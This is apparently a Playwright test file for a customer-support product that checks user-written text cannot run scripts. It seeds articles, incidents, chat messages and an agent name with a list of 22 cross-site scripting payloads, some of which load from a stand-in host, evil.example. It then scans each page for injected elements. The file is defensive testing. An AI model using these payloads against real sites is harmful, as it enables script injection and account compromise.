"""Twenty-two ways to put a script into a text, in every place where somebody can write one."""

from pathlib import Path
from typing import Any

from playwright.async_api import Page, expect

from handoff import agents
from tests.browser.people import Console, Widget, text
from tests.browser.stage import Stage
from tests.clients import AgentClient
from tests.product import QUICK_BUILD, Product, running

PAYLOADS = (
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    '"><script src=https://evil.example/x.js></script>',
    "'-pwn()-'",
    "[click](javascript:pwn())",
    "[click](JaVaScRiPt:pwn())",
    "[click](&#106;avascript:pwn())",
    "[click](data:text/html,<script>pwn()</script>)",
    "[click](vbscript:pwn())",
    "![image](https://evil.example/x.png)",
    '![image](x "onerror=pwn()")',
    '<a href="javascript:pwn()">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "`</code><script>pwn()</script>`",
    "[one]: javascript:pwn()\n\n[one]",
    "<math><mtext><table><mglyph><style></math><img src=x onerror=pwn()>",
    "{{constructor.constructor('pwn()')()}}",
    "<details open ontoggle=pwn()>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)
NAME = "<img src=x onerror=pwn()>"
QUESTION = "where do I send the zebra crossing form Q-99"
_FOUND = """() => {
    const all = [...document.querySelectorAll("*")];
    const roots = [document, ...all.flatMap((element) => element.shadowRoot ?? [])];
    const safe = (link) => /^(https?|mailto|tel):$/.test(link.protocol);
    const bad = "body script:not([src^='/']):not([src*='/widget.js']), iframe, object, embed, img,"
        + "body style, body link, meta[http-equiv], math, details[ontoggle], [onerror], [onload]";
    const links = roots.flatMap((r) => [...r.querySelectorAll("a[href]")]);
    return roots.flatMap((r) => [...r.querySelectorAll(bad)].map((e) => e.outerHTML))
        .concat(links.filter((link) => !safe(link)).map((link) => link.outerHTML))
        .concat(window.pwned ? ["ran"] : []);
}"""
_TRAP = "window.pwn = () => { window.pwned = true; alert('ran'); };"


async def test_nothing_written_by_anybody_runs(home: Path, stage: Stage) -> None:
    async with running(home, settings=QUICK_BUILD) as product:
        await _named(product, NAME)
        async with product.rest() as rest:
            await _publish(rest)
            await _declare(rest)
            await product.build(rest)
        widget = await _customer(product, stage)
        await _help_page(product, stage)
        async with product.agent(NAME) as agent:
            await _talk(stage, widget, agent)
            await _console(product, stage)
        await _admin(product, stage)
        await stage.close()


async def _harmless(stage: Stage, page: Page, name: str) -> None:
    await stage.shot(page, name)
    assert await page.evaluate(_FOUND) == [], name


async def _named(product: Product, name: str) -> None:
    now = product.clock()
    await product.parts.database.write(lambda tx: agents.add(tx, name, "agent", ["en"], now))


async def _publish(rest: Any) -> None:
    """An article whose every field attacks."""
    address = "/api/admin/articles/payments-charged-twice/en"
    article = (await rest.get(address)).json()
    body = {
        "title": f"Zebra crossing form Q-99 {PAYLOADS[1]}",
        "category": article["category"],
        "subcategory": article["subcategory"],
        "components": article["components"],
        "questions": [QUESTION, *PAYLOADS],
        "body": "Send the zebra crossing form Q-99 to us.\n\n" + "\n\n".join(PAYLOADS),
        "publish": True,
        "base_version": article["version"],
    }
    saved = await rest.put(address, json=body)
    assert saved.status_code == 200, saved.text


async def _declare(rest: Any) -> None:
    words = {"en": " ".join(PAYLOADS[:6])}
    body = {
        "title": {"en": f"Broken {PAYLOADS[0]}{PAYLOADS[2]}"},
        "components": ["payments"],
        "severity": "major",
        "status": "investigating",
        "next_update_minutes": 30,
        "text": words,
        "workaround": words,
    }
    answer = await rest.post("/api/admin/incidents", json=body)
    assert answer.status_code in (200, 201), answer.text


async def _customer(product: Product, stage: Stage) -> Widget:
    page = await (await stage.context()).new_page()
    await page.add_init_script(_TRAP)
    await page.goto(f"{product.url}/demo?lang=en#<img src=x onerror=pwn()>")
    widget = await Widget(page).open()
    await widget.banner.get_by_role("button", name=text("chat.more")).click()
    await _harmless(stage, page, "banner")
    answer = await widget.ask(QUESTION)
    await expect(answer).to_contain_text("Q-99")
    await _harmless(stage, page, "answer")
    await answer.locator(".sources button").last.click()
    await expect(widget.panel.locator(".source")).to_contain_text("Q-99")
    await _harmless(stage, page, "source")
    await page.keyboard.press("Escape")
    return widget


async def _help_page(product: Product, stage: Stage) -> None:
    page = await (await stage.context()).new_page()
    await page.add_init_script(_TRAP)
    await page.goto(f"{product.url}/help/en/payments-charged-twice")
    await expect(page.locator("h1")).to_contain_text("Q-99")
    await _harmless(stage, page, "help-article")
    await page.goto(f"{product.url}/help/en/status")
    await _harmless(stage, page, "help-status")


async def _talk(stage: Stage, widget: Widget, agent: AgentClient) -> None:
    """Customer and agent say every payload to each other; the agent's name is one, too."""
    await widget.say("let me talk to someone")
    queue = await agent.queue(lambda q: q["waiting_total"] == 1)
    conversation = queue["waiting"][0]["conversation"]
    await agent.act("claim", conversation=conversation)
    await expect(widget.speaker).to_contain_text(NAME)
    for payload in PAYLOADS:
        await widget.say(payload)
        await agent.act("say", conversation=conversation, text=payload)
        await agent.act("note", conversation=conversation, text=payload)
    await expect(widget.from_agents).to_have_count(len(PAYLOADS))
    await expect(widget.panel.locator(".message.sending")).to_have_count(0)
    await _harmless(stage, widget.page, "talk")
    await agent.act("transfer", conversation=conversation, to=None, note=PAYLOADS[0])


async def _console(product: Product, stage: Stage) -> None:
    console = Console(await stage.staff(product, "Aina"))
    await console.page.add_init_script(_TRAP)
    await console.page.reload()
    await console.ready()
    await console.claim_first()
    await expect(console.log.locator(".entry-note")).to_have_count(len(PAYLOADS) + 1)
    await console.log.locator(".why summary").first.click()
    await _harmless(stage, console.page, "console")
    await console.page.locator("#help-search").fill("zebra crossing form")
    await expect(console.page.locator(".found")).to_contain_text("Q-99")
    await _harmless(stage, console.page, "console-search")


async def _admin(product: Product, stage: Stage) -> None:
    page = await stage.staff(product, "Admin", "/admin")
    await page.add_init_script(_TRAP)
    places = ("articles", "articles/payments-charged-twice/en", "incidents", "people", "unanswered")
    for place in places:
        await page.goto(f"{product.url}/admin#/{place}")
        await page.reload()
        await expect(page.locator("h1")).to_be_visible()
        await expect(page.locator(".skeleton, .failure")).to_have_count(0)
        await _harmless(stage, page, place.replace("/", "-"))
